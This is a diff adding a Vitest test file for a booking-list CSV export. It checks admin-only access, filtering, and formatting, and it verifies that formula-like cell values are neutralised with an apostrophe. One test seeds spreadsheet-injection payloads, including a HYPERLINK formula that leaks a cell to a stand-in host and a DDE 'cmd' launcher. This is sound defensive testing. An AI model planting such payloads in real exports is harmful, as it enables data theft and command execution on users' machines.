@@ -1,0 +1,108 @@
+import Papa from "papaparse";
+import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";
+import { studioToday, systemClock } from "#server/platform/clock.ts";
+import { newBooking } from "#tests/factories/booking.ts";
+import { newPerson, signedIn } from "#tests/support/staff.ts";
+import { type Studio, startStudio } from "#tests/support/studio.ts";
+import { createVisitor, type Visitor } from "#tests/support/visitor.ts";
+
+const EXPORT = "/api/booking-list/export.csv";
+
+let studio: Studio;
+let admin: Visitor;
+beforeAll(async () => {
+  studio = await startStudio();
+  admin = await signedIn(studio);
+});
+beforeEach(() => studio.reset());
+afterEach(() => studio.expectNoErrors());
+afterAll(() => studio?.close());
+
+async function sheet(query = "") {
+  const answer = await admin.get(`${EXPORT}${query}`);
+  expect(answer.status).toBe(200);
+  const bytes = new Uint8Array(await answer.arrayBuffer());
+  // What decodes as text drops the mark: it is looked at as bytes.
+  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const text = new TextDecoder().decode(bytes);
+  const { data, errors } = Papa.parse<Record<string, string>>(text.trimEnd(), { header: true });
+  expect(errors).toEqual([]);
+  return { answer, text, rows: data };
+}
+
+it("is a file that nobody keeps, for admins alone", async () => {
+  const { answer } = await sheet();
+  expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+  expect(answer.headers.get("content-disposition")).toBe(
+    `attachment; filename="bookings-${studioToday(systemClock)}.csv"`,
+  );
+  expect(answer.headers.get("cache-control")).toBe("no-store");
+  expect((await createVisitor(studio).get(EXPORT)).status).toBe(401);
+  const plain = await signedIn(studio, (await newPerson(studio)).credentials);
+  expect((await plain.get(EXPORT)).status).toBe(403);
+});
+
+it("S28 a couple whose every field begins like a formula is text in each cell", async () => {
+  await newBooking(studio, {
+    brideName: '=HYPERLINK("https://e.example?"&A1,"Ana")',
+    groomName: "+cmd|' /C calc'!A0",
+    email: "-1@example.com",
+    phone: "+1 (323) 555-0100",
+    venue: "@SUM(1+1)",
+    packageName: "\t=1",
+    message: "=1+1\nsecond line, with a comma",
+    closedReason: "\r=2",
+    nextStep: "＝3",
+  });
+  const { rows } = await sheet();
+  expect(rows).toHaveLength(1);
+  expect(rows[0]).toMatchObject({
+    Bride: `'=HYPERLINK("https://e.example?"&A1,"Ana")`,
+    Groom: "'+cmd|' /C calc'!A0",
+    Email: "'-1@example.com",
+    Phone: "'+1 (323) 555-0100",
+    Venue: "'@SUM(1+1)",
+    Package: "'\t=1",
+    Message: "'=1+1\nsecond line, with a comma",
+    Reason: "'\r=2",
+    "Next step": "'＝3",
+  });
+  for (const cell of Object.values(rows[0] ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
+});
+
+it("holds all that the filter shows, over all pages, in the list's order", async () => {
+  for (let index = 0; index < 30; index += 1)
+    await newBooking(studio, { brideName: `Ana ${String(index).padStart(2, "0")}`, venue: "Malibu" });
+  await newBooking(studio, { brideName: "Bea", venue: "Ojai", status: "lost", closedReason: "Too far" });
+  const malibu = await sheet("?q=malibu&sort=name&page=2");
+  expect(malibu.rows.map(({ Bride }) => Bride)).toEqual(
+    Array.from({ length: 30 }, (_, index) => `Ana ${String(index).padStart(2, "0")}`),
+  );
+  const closed = await sheet("?status=closed");
+  expect(closed.rows).toMatchObject([{ Bride: "Bea", Status: "lost", Reason: "Too far" }]);
+});
+
+it("holds the chosen bookings and no others", async () => {
+  const [one, , three] = [await newBooking(studio), await newBooking(studio), await newBooking(studio)];
+  const { rows } = await sheet(`?id=${one?.id}&id=${three?.id}&id=no-such-booking&sort=oldest`);
+  expect(rows.map(({ Email }) => Email).sort()).toEqual([one?.email, three?.email].sort());
+});
+
+it("writes money, dates and days as the studio reads them", async () => {
+  await newBooking(studio, {
+    packagePriceCents: 380_050,
+    guestCount: 80,
+    weddingDate: "2031-05-14",
+    // The evening before in Los Angeles.
+    createdAt: new Date("2026-03-02T04:00:00Z"),
+  });
+  const { rows } = await sheet();
+  expect(rows[0]).toMatchObject({
+    Price: "3800.5",
+    Guests: "80",
+    "Wedding date": "2031-05-14",
+    "Asked on": "2026-03-01",
+    "Answered on": "",
+    "Came by": "site",
+  });
+});
